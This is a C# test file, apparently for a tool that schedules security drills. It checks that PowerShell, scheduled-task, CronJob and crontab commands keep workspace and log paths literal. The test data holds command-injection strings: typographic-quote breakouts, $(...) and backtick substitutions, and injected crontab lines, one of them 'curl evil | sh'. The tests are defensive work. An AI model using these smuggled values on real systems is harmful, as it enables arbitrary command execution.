using System.Text;
using System.Xml.Linq;
using DeIRF.Drills;
using DeIRF.Testing;
using Xunit;

namespace DeIRF.Core.Tests.Flow;

/// <summary>
/// Issue 18 finding 7: DrillSchedule quoted only the ASCII ' for PowerShell, yet PowerShell also ends a single-quoted
/// string at U+2018-U+201B, so a workspace path with ’ became its own statement in all three schedule forms; and
/// -LogPath reached /bin/sh bare. Each form's command is run here by the real pinned pwsh (and the crontab line by the
/// real /bin/sh, after cron's own % handling), with Import-Module and Start-DeirfDrill stubbed to print what they got.
/// </summary>
public sealed class DrillScheduleQuotingTests : IDisposable
{
    // Stand-ins that show exactly what Start-DeirfDrill received; anything else that runs prints too.
    private const string Prelude = "function Import-Module { } function Start-DeirfDrill { param($Scenario, $Workspace) [Console]::Out.Write('ARG[' + $Workspace + ']') }; ";

    // ’ and ‘ end a PowerShell single-quoted string; ; $(...) would run if they did; % is cron's line break.
    private const string Hostile = "/srv/o’brien drill’; Write-Output PWNED; ‘$(Write-Output SUB)‛ ‚x' \"q\" 50% ws";

    private readonly string _dir = TestArtifacts.NewDirectory("deirf-drill-quote-");

    public void Dispose() => TestArtifacts.Delete(_dir);

    private static string RunPowerShell(string command)
    {
        var (pwsh, prefix) = ExternalTool.RequirePwsh();
        var (code, stdout, stderr) = ExternalTool.Run(pwsh, [.. prefix, "-NoProfile", "-NonInteractive", "-Command", Prelude + command]);
        Assert.True(code == 0, $"pwsh exited {code}: {stderr}");
        return stdout;
    }

    [SkippableFact]
    public void DrillCommand_WithTypographicQuotesAndSubexpressions_IsOneLiteralWorkspaceArgument()
    {
        Assert.Equal($"ARG[{Hostile}]", RunPowerShell(DrillSchedule.DrillCommand("leaked-key", Hostile)));
    }

    [SkippableFact]
    public void ScheduledTask_TheTaskArgumentsCommand_PassesTheWorkspaceLiterally()
    {
        const string path = @"C:\Users\o’brien‘; Write-Output PWNED; $(Write-Output SUB)’\ws";
        var xml = DrillSchedule.ScheduledTaskXml("leaked-key", "Week", 9, 0, path, new DateTimeOffset(2031, 3, 4, 0, 0, 0, TimeSpan.Zero));
        XNamespace t = "http://schemas.microsoft.com/windows/2004/02/mit/task";
        var args = XDocument.Parse(xml).Root!.Element(t + "Actions")!.Element(t + "Exec")!.Element(t + "Arguments")!.Value;
        const string head = "-NoProfile -NonInteractive -Command \"";
        Assert.StartsWith(head, args);
        Assert.EndsWith("\"", args);
        var command = args[head.Length..^1];
        Assert.DoesNotContain('"', command);
        Assert.Equal($"ARG[{path}]", RunPowerShell(command));
        var ex = Assert.Throws<DeirfException>(() => DrillSchedule.ScheduledTaskXml("leaked-key", "Week", 9, 0, Hostile, DateTimeOffset.UtcNow));
        Assert.Equal("DrillScheduleArgumentInvalid", ex.ErrorId);
    }

    [SkippableFact]
    public void CronJob_TheContainerCommand_PassesTheWorkspaceLiterally()
    {
        var yaml = DrillSchedule.CronJobYaml("leaked-key", "Day", 6, 0, Hostile, "deirf:test", null);
        var stream = new YamlDotNet.RepresentationModel.YamlStream();
        stream.Load(new StringReader(yaml));
        var root = (YamlDotNet.RepresentationModel.YamlMappingNode)stream.Documents.Single().RootNode;
        YamlDotNet.RepresentationModel.YamlNode n = root;
        foreach (var key in new[] { "spec", "jobTemplate", "spec", "template", "spec", "containers" })
        {
            n = ((YamlDotNet.RepresentationModel.YamlMappingNode)n).Children[key];
        }
        var container = (YamlDotNet.RepresentationModel.YamlMappingNode)((YamlDotNet.RepresentationModel.YamlSequenceNode)n).Children[0];
        var command = ((YamlDotNet.RepresentationModel.YamlScalarNode)((YamlDotNet.RepresentationModel.YamlSequenceNode)container.Children["command"]).Children[4]).Value!;
        Assert.Equal($"ARG[{Hostile}]", RunPowerShell(command));
    }

    /// <summary>What cron hands /bin/sh: the line after the five time fields, up to the first unescaped % (\% is a %).</summary>
    private static string CronCommand(string line)
    {
        var command = string.Join(' ', line.Split(' ').Skip(5));
        var sb = new StringBuilder();
        for (int i = 0; i < command.Length; i++)
        {
            if (command[i] == '\\' && i + 1 < command.Length && command[i + 1] == '%')
            {
                sb.Append('%');
                i++;
                continue;
            }
            if (command[i] == '%')
            {
                break;
            }
            sb.Append(command[i]);
        }
        return sb.ToString();
    }

    [SkippableFact]
    public void Crontab_RunByShThenPwsh_KeepsWorkspaceAndLogPathLiteral()
    {
        Skip.If(OperatingSystem.IsWindows(), "cron lines run under /bin/sh");
        var (dotnet, prefix) = ExternalTool.RequirePwsh();
        // A pwsh on the line that is the pinned one with the stubs in front of the scheduled -Command.
        var wrapper = Path.Combine(_dir, "pwsh");
        File.WriteAllText(wrapper, "#!/bin/sh\nexec \"$DEIRF_TEST_DOTNET\" \"$DEIRF_TEST_PWSH\" -NoProfile -NonInteractive -Command \"$DEIRF_TEST_PRELUDE$4\"\n");
        File.SetUnixFileMode(wrapper, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        var log = Path.Combine(_dir, "drill’s log'; touch pwned; $(touch sub) `touch tick` 100% .log");
        var line = DrillSchedule.Crontab("leaked-key", "Day", 9, 30, Hostile, wrapper, log);
        Assert.DoesNotContain('\n', line);
        var (code, stdout, stderr) = ExternalTool.Run("/bin/sh", ["-c", CronCommand(line)], workingDirectory: _dir,
            environment: new Dictionary<string, string> { ["DEIRF_TEST_DOTNET"] = dotnet, ["DEIRF_TEST_PWSH"] = prefix[0], ["DEIRF_TEST_PRELUDE"] = Prelude });
        Assert.True(code == 0, $"sh exited {code}: {stdout}{stderr}");
        Assert.True(File.Exists(log), $"no log at the literal -LogPath; the folder has: {string.Join(", ", Directory.GetFiles(_dir).Select(Path.GetFileName))}");
        Assert.Equal($"ARG[{Hostile}]", File.ReadAllText(log));
        foreach (var planted in new[] { "pwned", "sub", "tick" })
        {
            Assert.False(File.Exists(Path.Combine(_dir, planted)), $"'{planted}' was created: the log path ran as shell code");
        }
    }

    [Theory]
    [InlineData("/srv/ws\n* * * * * curl evil | sh", null)]
    [InlineData("/srv/ws", "/var/log/drill.log\n* * * * * id")]
    [InlineData("/srv/\u001b]0;owned\u0007ws", null)]
    public void Crontab_AControlCharacterInWorkspaceOrLogPath_IsRefused(string workspace, string? log)
    {
        var ex = Assert.Throws<DeirfException>(() => DrillSchedule.Crontab("leaked-key", "Day", 9, 30, workspace, "pwsh", log));
        Assert.Equal("DrillScheduleArgumentInvalid", ex.ErrorId);
        Assert.Equal(DeirfErrorKind.InvalidArgument, ex.Kind);
    }

    [Theory]
    [InlineData("plain", "'plain'")]
    [InlineData("o'brien", "'o''brien'")]
    [InlineData("o\u2018b\u2019c\u201Ad\u201Be", "'o\u2018\u2018b\u2019\u2019c\u201A\u201Ad\u201B\u201Be'")]
    public void PowerShellQuote_DoublesEverySingleQuoteCharacter(string value, string expected)
        => Assert.Equal(expected, DrillSchedule.PowerShellQuote(value));
}
